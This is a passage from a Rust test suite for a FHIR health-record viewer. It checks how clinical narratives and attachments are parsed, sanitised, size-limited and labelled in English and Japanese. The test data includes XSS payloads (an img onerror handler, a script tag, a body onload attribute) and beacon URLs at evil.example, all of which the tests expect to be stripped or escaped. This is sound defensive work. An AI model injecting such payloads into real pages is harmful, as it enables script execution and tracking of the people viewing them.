            "text": {"div": "<div>文書全体</div>"},
            "section": [
                {"title": "主訴", "text": {"div": "<div>頭痛<img src=x onerror=alert(1)></div>"}},
                {"title": "経過", "section": [
                    {"title": "入院中", "text": {"div": "<div><b>安定</b></div>"}},
                    {"text": {"div": "<div>題なし</div>"}},
                    {"title": "空", "emptyReason": {"text": "none"}}
                ]},
                {"entry": [{"reference": "Observation/1"}]}
            ]
        });
        let html = |s: &str| Part::Html(s.into());
        let section = |t: Option<&str>, parts: Vec<Part>| Part::Section { title: t.map(str::to_string), parts };
        assert_eq!(
            of_resource(&c),
            vec![
                html("<div>文書全体</div>"),
                section(Some("主訴"), vec![html("<div>頭痛</div>")]),
                section(
                    Some("経過"),
                    vec![section(Some("入院中"), vec![html("<div><b>安定</b></div>")]), section(None, vec![html("<div>題なし</div>")]), section(Some("空"), vec![])]
                ),
            ]
        );
    }

    #[test]
    fn composition_nesting_is_bounded() {
        let mut s = json!({"title": "deepest", "text": {"div": "<p>x</p>"}});
        for i in 0..100 {
            s = json!({"title": format!("level {i}"), "section": [s]});
        }
        let parts = of_resource(&json!({"resourceType": "Composition", "section": [s]}));
        fn depth(parts: &[Part]) -> usize {
            parts.iter().map(|p| if let Part::Section { parts, .. } = p { 1 + depth(parts) } else { 0 }).max().unwrap_or(0)
        }
        assert_eq!(depth(&parts), MAX_SECTION_DEPTH);
    }

    fn b64(bytes: &[u8]) -> String {
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    fn document(attachment: Value) -> Vec<Part> {
        of_resource(&json!({"resourceType": "DocumentReference", "status": "current", "content": [{"attachment": attachment}]}))
    }

    fn only_attachment(parts: Vec<Part>) -> Attachment {
        match parts.as_slice() {
            [Part::Attachment(a)] => a.clone(),
            other => panic!("one attachment expected: {other:?}"),
        }
    }

    #[test]
    fn a_plain_text_attachment_is_text() {
        let text = "紹介状\n<script>alert(1)</script> & 以上\n";
        let a = only_attachment(document(json!({"contentType": "text/plain; charset=UTF-8", "title": "紹介状", "data": b64(text.as_bytes())})));
        // Text, never HTML: the view puts it in a text node, so the window escapes it.
        assert_eq!(a.content, Content::Text(text.to_string()));
        assert_eq!(a.size, Some(text.len() as u64));
        assert_eq!(attachment_label(En, &a), format!("紹介状 (text/plain; charset=UTF-8, {} B)", text.len()));
        // Line breaks in the base64, missing padding and a byte-order mark are fine.
        let wrapped: String = b64("\u{feff}ab".as_bytes()).trim_end_matches('=').chars().flat_map(|c| [c, '\n']).collect();
        assert_eq!(only_attachment(document(json!({"contentType": "TEXT/PLAIN", "data": wrapped}))).content, Content::Text("ab".into()));
    }

    #[test]
    fn an_html_attachment_is_sanitized() {
        for ct in ["text/html", "application/xhtml+xml", "text/html;charset=utf-8"] {
            let page = "<html><head><title>t</title><style>body{background:url(http://evil.example/)}</style></head><body onload=\"x()\"><h1>所見</h1><p>高血圧症<img src=\"http://evil.example/b.png\"></p></body></html>";
            let a = only_attachment(document(json!({"contentType": ct, "data": b64(page.as_bytes())})));
            let Content::Html(safe) = &a.content else { panic!("{ct}: {a:?}") };
            assert_eq!(&**safe, "<h1>所見</h1><p>高血圧症</p>", "{ct}");
            assert_inert(ct, safe);
        }
    }

    #[test]
    fn a_pdf_or_image_is_named_not_shown() {
        let a = only_attachment(document(json!({"contentType": "application/pdf", "title": "退院時サマリー", "size": 12_800, "data": b64(b"%PDF-1.7 ...")})));
        assert_eq!(a.content, Content::NotShown(Why::Type));
        assert_eq!(attachment_label(En, &a), "退院時サマリー (application/pdf, 12.5 KB)");
        assert!(why_label(En, Why::Type).contains("plain-text and HTML"));
        assert!(why_label(Ja, Why::Type).contains("テキストと HTML"));
        // No size given: estimated from the data.
        let img = only_attachment(document(json!({"contentType": "image/png", "data": b64(&[0u8; 3000])})));
        assert_eq!((&img.content, img.size), (&Content::NotShown(Why::Type), Some(3000)));
        assert_eq!(attachment_label(Ja, &img), "添付ファイル (image/png, 2.9 KB)");
        // No type at all.
        assert_eq!(only_attachment(document(json!({"data": b64(b"x")}))).content, Content::NotShown(Why::Type));
    }

    #[test]
    fn a_url_is_never_fetched() {
        for ct in ["text/plain", "text/html", "application/pdf"] {
            let a = only_attachment(document(json!({"contentType": ct, "url": "https://hospital.example/Binary/1", "size": "2048"})));
            assert_eq!((&a.content, a.size), (&Content::NotShown(Why::Elsewhere), Some(2048)), "{ct}");
        }
        assert_eq!(only_attachment(document(json!({"contentType": "text/plain"}))).content, Content::NotShown(Why::Empty));
    }

    #[test]
    fn oversize_is_refused_before_decoding() {
        let big = b64(&vec![b'a'; MAX_SHOWN_BYTES + 1]);
        let a = only_attachment(document(json!({"contentType": "text/plain", "data": big})));
        assert_eq!(a.content, Content::NotShown(Why::TooLarge));
        assert!(a.size.is_some_and(|n| n > MAX_SHOWN_BYTES as u64));
        assert_eq!(why_label(En, Why::TooLarge), "Not shown: larger than 2.0 MB.");
        assert_eq!(why_label(Ja, Why::TooLarge), "2.0 MB を超えるため表示しません。");
        // Exactly the limit is shown.
        let edge = only_attachment(document(json!({"contentType": "text/plain", "data": b64(&vec![b'a'; MAX_SHOWN_BYTES])})));
        assert!(matches!(edge.content, Content::Text(ref t) if t.len() == MAX_SHOWN_BYTES));
        // A narrative over the limit is named, not parsed.
        let div = format!("<div>{}</div>", "x".repeat(MAX_SHOWN_BYTES));
        assert_eq!(of_resource(&json!({"resourceType": "Condition", "text": {"div": div}})), vec![Part::NotShown(Why::TooLarge)]);
    }

    #[test]
    fn bad_base64_and_bad_utf8_are_messages() {
        for data in ["not base64!", "QUJD=A", "@@@@", "QQ=Q"] {
            assert_eq!(only_attachment(document(json!({"contentType": "text/plain", "data": data}))).content, Content::NotShown(Why::BadBase64), "{data}");
        }
        let sjis = b64(&[0x8d, 0x82, 0x8c, 0x8c, 0x88, 0xb3]); // 高血圧 in Shift_JIS
        assert_eq!(only_attachment(document(json!({"contentType": "text/plain; charset=Shift_JIS", "data": sjis}))).content, Content::NotShown(Why::NotUtf8));
        assert_eq!(only_attachment(document(json!({"contentType": "text/html", "data": b64(&[0xff, 0xfe])}))).content, Content::NotShown(Why::NotUtf8));
        // Wrong JSON types are no content, not a panic.
        assert_eq!(only_attachment(document(json!({"contentType": "text/plain", "data": 42}))).content, Content::NotShown(Why::Empty));
        assert_eq!(document(json!("a string")), vec![Part::Attachment(Attachment { title: None, content_type: None, size: None, content: Content::NotShown(Why::Empty) })]);
    }

    #[test]
    fn a_diagnostic_report_and_a_document_in_order() {
        let report = json!({
            "resourceType": "DiagnosticReport",
            "text": {"div": "<div><p>胸部X線</p></div>"},
            "conclusion": "異常なし",
            "presentedForm": [
                {"contentType": "text/plain", "data": b64("所見: 特記事項なし".as_bytes()), "title": "所見"},
                {"contentType": "application/pdf", "url": "Binary/9"}
            ]
        });
        let parts = of_resource(&report);
        assert_eq!(parts.len(), 4, "{parts:?}");
        assert_eq!(parts[0], Part::Html("<div><p>胸部X線</p></div>".into()));
        assert_eq!(parts[1], Part::Field { label: "narrative.conclusion", text: "異常なし".into() });
        assert!(matches!(&parts[2], Part::Attachment(a) if a.content == Content::Text("所見: 特記事項なし".into())));
        assert!(matches!(&parts[3], Part::Attachment(a) if a.content == Content::NotShown(Why::Elsewhere)));

        let doc = of_resource(&json!({"resourceType": "DocumentReference", "description": "紹介状", "content": [
            {"attachment": {"contentType": "text/plain", "data": b64(b"one")}},
            {"format": {"code": "x"}},
            {"attachment": {"contentType": "text/plain", "data": b64(b"two")}}
        ]}));
        assert_eq!(doc[0], Part::Field { label: "narrative.description", text: "紹介状".into() });
        assert!(matches!(&doc[..], [_, Part::Attachment(a), Part::Attachment(b)] if a.content == Content::Text("one".into()) && b.content == Content::Text("two".into())));
        // Other resources show only their narrative.
        assert!(of_resource(&json!({"resourceType": "Observation", "presentedForm": [{"contentType": "text/plain", "data": b64(b"x")}]})).is_empty());
    }

    #[test]
    fn every_label_in_both_languages() {
        for lang in [En, Ja] {
            for key in ["narrative.title", "narrative.attachment", "narrative.description", "narrative.conclusion"] {
                assert_ne!(crate::i18n_record::tr(lang, key), "?", "{key}");
            }
            for why in [Why::Type, Why::Elsewhere, Why::Empty, Why::TooLarge, Why::TooComplex, Why::BadBase64, Why::NotUtf8] {
                let words = why_label(lang, why);
                assert!(words != "?" && !words.contains("{}"), "{why:?}: {words}");
            }
        }
        assert_eq!(crate::i18n_record::tr(Ja, "narrative.title"), "記載内容");
        assert_eq!(size_label(512), "512 B");
        assert_eq!(size_label(3 * 1024 * 1024 + 1), "3.0 MB");
    }
}
